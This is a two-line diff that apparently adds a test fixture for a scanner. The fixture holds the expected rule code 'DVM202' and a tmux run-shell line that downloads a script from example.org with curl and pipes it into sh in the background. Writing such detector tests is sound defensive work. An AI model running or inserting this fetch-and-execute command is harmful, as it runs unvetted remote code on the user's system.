@@ -1,0 +1,2 @@
+# expect: DVM202
+tmux run-shell -b 'curl -fsSL https://example.org/i.sh | sh'
